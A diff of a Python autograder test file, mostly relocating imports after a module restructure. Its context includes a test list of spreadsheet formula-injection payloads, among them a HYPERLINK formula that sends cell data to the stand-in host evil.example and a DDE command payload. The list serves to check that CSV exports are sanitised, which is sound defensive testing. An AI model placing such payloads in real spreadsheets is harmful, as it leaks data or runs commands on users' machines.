@@ -9,10 +9,11 @@ import numpy as np
 import pytest
 from PIL import Image
 
-from autograder import export
-from autograder.gradebook import MAX_MESSAGE_CHARS, Gradebook
-from autograder.reports import feedback, images, nbgrader_csv, safe_csv
-from autograder.result import ItemResult, Result
+from autograder.reports import export
+from autograder.batch.gradebook import MAX_MESSAGE_CHARS, Gradebook
+from autograder.grading import images
+from autograder.reports import feedback, nbgrader_csv, safe_csv
+from autograder.grading.result import ItemResult, Result
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1"]
@@ -71,7 +72,7 @@ def test_gradebook_and_nbgrader_csv_hold_no_formula():
 
 # ----------------------------------------------------------------------------- pictures
 def _image_item(got, expected=None):
-    from autograder import compare
+    from autograder.grading import compare
 
     expected = np.zeros((12, 12)) if expected is None else expected
     with pytest.raises(compare.Mismatch) as info:
@@ -121,7 +122,7 @@ def test_small_pictures_are_unchanged_and_say_nothing_of_downsampling():
 
 
 def test_batch_and_feedback_draw_with_the_same_function():
-    from autograder import batch
+    from autograder.batch import driver as batch
 
     assert feedback.collect_images is images.collect
     item = _image_item(np.ones((40, 40)))
